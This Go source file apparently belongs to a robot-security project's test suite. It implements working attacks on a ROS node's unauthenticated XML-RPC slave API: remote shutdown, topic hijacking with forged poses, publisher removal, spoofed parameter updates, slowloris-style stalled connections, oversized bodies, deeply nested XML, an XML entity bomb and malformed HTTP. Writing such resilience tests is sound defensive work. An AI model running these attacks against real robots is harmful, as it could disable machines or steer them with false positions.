package hostile

import (
	"context"
	"errors"
	"fmt"
	"io"
	"net"
	"strings"
	"sync"
	"time"

	"github.com/robowarden/robowarden/test/internal/wire"
)

// slaveAttacks are aimed at the target's slave API (XML-RPC), which asks nobody who he is.
func slaveAttacks() []Attack {
	return []Attack{
		{"slave-shutdown", "ends the node", NeedNode, slaveShutdown},
		{"slave-hijack", "replaces the publishers of a topic by a forged one (rospy: adds it); the master knows nothing of it", NeedNode | NeedPose, slaveHijack},
		{"slave-blind", "takes all publishers of a topic away (not from rospy)", NeedNode | NeedPose, slaveBlind},
		{"slave-update-flood", "makes the node look for thousands of publishers that are not there", NeedNode | NeedPose, slaveUpdateFlood},
		{"slave-param-update", "tells the node of parameters that the master does not have", NeedNode, slaveParamUpdate},
		{"slave-stalled-bodies", "holds requests open that never end, so that the node cannot close", NeedNode, slaveStalledBodies},
		{"slave-huge-body", "makes the node keep 64 MiB of one request", NeedNode, slaveHugeBody},
		{"slave-deep-xml", "makes the node descend 100000 levels of XML", NeedNode, slaveDeepXML},
		{"slave-odd-http", "sends requests that are hardly HTTP", NeedNode, slaveOddHTTP},
	}
}

// outcome of a call to the target: an answer of "no", or a closed door, is a defence.
func outcome(err error) error {
	var refused *wire.Refused
	var fault *wire.Fault
	var network *net.OpError
	switch {
	case err == nil:
		return nil
	case errors.As(err, &refused), errors.As(err, &fault), strings.Contains(err.Error(), "HTTP status"):
		return fmt.Errorf("hostile: %w: %w", ErrRefused, err)
	case errors.As(err, &network), errors.Is(err, io.EOF), errors.Is(err, io.ErrUnexpectedEOF):
		return fmt.Errorf("hostile: connection ended: %w: %w", ErrRefused, err)
	}
	return err
}

func slaveShutdown(ctx context.Context, t Target) error {
	uri, err := t.slave(ctx, t.Node)
	if err != nil {
		return err
	}
	_, err = wire.CallROS(ctx, uri, "shutdown", Name, "maintenance")
	if errors.Is(err, io.EOF) {
		return nil // it went down before it could answer
	}
	return outcome(err)
}

// slaveHijack feeds the target forged poses through a publisher that the master has never heard of.
func slaveHijack(ctx context.Context, t Target) error {
	uri, err := t.slave(ctx, t.Node)
	if err != nil {
		return err
	}
	n, err := wire.NewNode(wire.NodeConfig{Name: Name})
	if err != nil {
		return err
	}
	defer func() { _ = n.Close() }()
	pub := n.Offer(wire.PublisherConfig{Topic: t.PoseTopic, Type: t.PoseType})
	if _, err = wire.CallROS(ctx, uri, "publisherUpdate", "/master", t.PoseTopic, []string{n.URI()}); err != nil {
		return outcome(err)
	}
	if err := bait(ctx, pub); err != nil {
		return err
	}
	seq := uint32(0)
	repeat(ctx, 100, t.duration(), func() {
		seq++
		pub.Send(forged(t.PoseType, seq, time.Now()))
	})
	return nil
}

// bait waits for the target to connect.
func bait(ctx context.Context, pub *wire.Publisher) error {
	ctx, cancel := context.WithTimeout(ctx, 3*time.Second)
	defer cancel()
	if err := pub.WaitAccepted(ctx, 1); err != nil {
		return fmt.Errorf("hostile: did not connect: %w: %w", ErrRefused, err)
	}
	return nil
}

func slaveBlind(ctx context.Context, t Target) error {
	uri, err := t.slave(ctx, t.Node)
	if err != nil {
		return err
	}
	repeat(ctx, 10, t.duration(), func() {
		if err == nil {
			_, err = wire.CallROS(ctx, uri, "publisherUpdate", "/master", t.PoseTopic, []string{})
		}
	})
	return outcome(err)
}

func slaveUpdateFlood(ctx context.Context, t Target) error {
	uri, err := t.slave(ctx, t.Node)
	if err != nil {
		return err
	}
	// A port that was free a moment ago: connections to it are refused, quickly and locally.
	l, err := net.Listen("tcp", "127.0.0.1:0")
	if err != nil {
		return err
	}
	dead := l.Addr().String()
	_ = l.Close()
	round := 0
	repeat(ctx, 10, t.duration(), func() {
		if err != nil {
			return
		}
		var uris []string
		for i := range 200 {
			uris = append(uris, fmt.Sprintf("http://%s/%d/%d", dead, round, i))
		}
		round++
		_, err = wire.CallROS(ctx, uri, "publisherUpdate", "/master", t.PoseTopic, uris)
	})
	return outcome(err)
}

func slaveParamUpdate(ctx context.Context, t Target) error {
	uri, err := t.slave(ctx, t.Node)
	if err != nil {
		return err
	}
	for _, p := range []string{"/use_sim_time", t.Node + "/enabled", "/robowarden/zones"} {
		if _, err := wire.CallROS(ctx, uri, "paramUpdate", "/master", p, true); err != nil {
			return outcome(err)
		}
	}
	return nil
}

// slaveStalledBodies opens requests that promise more than they send, and a few that do not even end their headers.
func slaveStalledBodies(ctx context.Context, t Target) error {
	uri, err := t.slave(ctx, t.Node)
	if err != nil {
		return err
	}
	addr, err := hostPort(uri)
	if err != nil {
		return err
	}
	var texts []string
	for i := range 32 {
		text := "POST /RPC2 HTTP/1.1\r\nHost: x\r\nContent-Type: text/xml\r\nContent-Length: 1000\r\n\r\n<?xml"
		if i%4 == 3 {
			text = "POST /RPC2 HTTP/1.1\r\nHost: x\r\nX-Slow: "
		}
		texts = append(texts, text)
	}
	return hold(ctx, addr, t.duration(), texts)
}

// hold opens one connection for each text, sends it, and keeps the connections open.
func hold(ctx context.Context, addr string, d time.Duration, texts []string) error {
	var conns []net.Conn
	defer func() {
		for _, c := range conns {
			_ = c.Close()
		}
	}()
	for _, text := range texts {
		c, err := net.DialTimeout("tcp", addr, time.Second)
		if err != nil {
			if len(conns) > 0 {
				break // as many as the target takes
			}
			return fmt.Errorf("hostile: %w: %w", ErrRefused, err)
		}
		conns = append(conns, c)
		_ = c.SetWriteDeadline(time.Now().Add(time.Second))
		_, _ = io.WriteString(c, text) // a target that hangs up on us is one for whom this did not work
	}
	sleep(ctx, d)
	return nil
}

// slaveHugeBody sends one request whose method name never seems to end.
func slaveHugeBody(ctx context.Context, t Target) error {
	uri, err := t.slave(ctx, t.Node)
	if err != nil {
		return err
	}
	addr, err := hostPort(uri)
	if err != nil {
		return err
	}
	c, err := net.DialTimeout("tcp", addr, time.Second)
	if err != nil {
		return fmt.Errorf("hostile: %w: %w", ErrNoSurface, err)
	}
	defer func() { _ = c.Close() }()
	const total = 64 << 20
	head := fmt.Sprintf("POST /RPC2 HTTP/1.1\r\nHost: x\r\nContent-Type: text/xml\r\nContent-Length: %d\r\n\r\n"+
		"<?xml version=\"1.0\"?><methodCall><methodName>", total+1000)
	if _, err := io.WriteString(c, head); err != nil {
		return outcome(err)
	}
	chunk := []byte(strings.Repeat("a", 1<<20))
	for sent := 0; sent < total && ctx.Err() == nil; sent += len(chunk) {
		_ = c.SetWriteDeadline(time.Now().Add(2 * time.Second))
		if _, err := c.Write(chunk); err != nil {
			return outcome(err)
		}
	}
	sleep(ctx, t.duration())
	return nil
}

// slaveDeepXML sends values in values in values, and a text that names itself over and over.
func slaveDeepXML(ctx context.Context, t Target) error {
	uri, err := t.slave(ctx, t.Node)
	if err != nil {
		return err
	}
	addr, err := hostPort(uri)
	if err != nil {
		return err
	}
	deep := "<?xml version=\"1.0\"?><methodCall><methodName>getPid</methodName><params><param>" +
		strings.Repeat("<value><array><data>", 100000)
	var bomb strings.Builder
	bomb.WriteString(`<?xml version="1.0"?><!DOCTYPE b [<!ENTITY a "` + strings.Repeat("a", 50) + `">`)
	for i := 'b'; i < 'k'; i++ {
		fmt.Fprintf(&bomb, `<!ENTITY %c "%s">`, i, strings.Repeat(fmt.Sprintf("&%c;", i-1), 10))
	}
	bomb.WriteString("]><methodCall><methodName>&j;</methodName></methodCall>")
	for _, body := range []string{deep, bomb.String()} {
		if err := post(ctx, addr, "text/xml", body); err != nil {
			return err
		}
	}
	return nil
}

func slaveOddHTTP(ctx context.Context, t Target) error {
	uri, err := t.slave(ctx, t.Node)
	if err != nil {
		return err
	}
	addr, err := hostPort(uri)
	if err != nil {
		return err
	}
	return hold(ctx, addr, 200*time.Millisecond, []string{
		"", "\r\n\r\n", "GET / HTTP/0.9\r\n\r\n", "POST / HTTP/1.1\r\nContent-Length: -1\r\n\r\n",
		"POST / HTTP/1.1\r\nHost: x\r\nContent-Length: 99999999999999999999\r\n\r\n",
		"POST / HTTP/1.1\r\nHost: x\r\nTransfer-Encoding: chunked\r\n\r\nffffffffffffffff\r\n",
		"POST / HTTP/1.1\r\nHost: x\r\n" + strings.Repeat("A: b\r\n", 50000),
		"\x16\x03\x01\x02\x00\x01\x00\x01\xfc\x03\x03", strings.Repeat("\x00", 4096),
	})
}

// post sends one request and reads what comes for at most two seconds.
func post(ctx context.Context, addr, contentType, body string) error {
	var d net.Dialer
	c, err := d.DialContext(ctx, "tcp", addr)
	if err != nil {
		return fmt.Errorf("hostile: %w: %w", ErrRefused, err)
	}
	defer func() { _ = c.Close() }()
	_ = c.SetDeadline(time.Now().Add(2 * time.Second))
	var wg sync.WaitGroup
	defer wg.Wait()
	// The answer is read while the request is still being sent, since a target may answer early and hang up.
	wg.Go(func() { _, _ = io.Copy(io.Discard, io.LimitReader(c, 1<<20)) })
	_, _ = fmt.Fprintf(c, "POST /RPC2 HTTP/1.1\r\nHost: x\r\nConnection: close\r\nContent-Type: %s\r\nContent-Length: %d\r\n\r\n%s",
		contentType, len(body), body)
	return nil
}
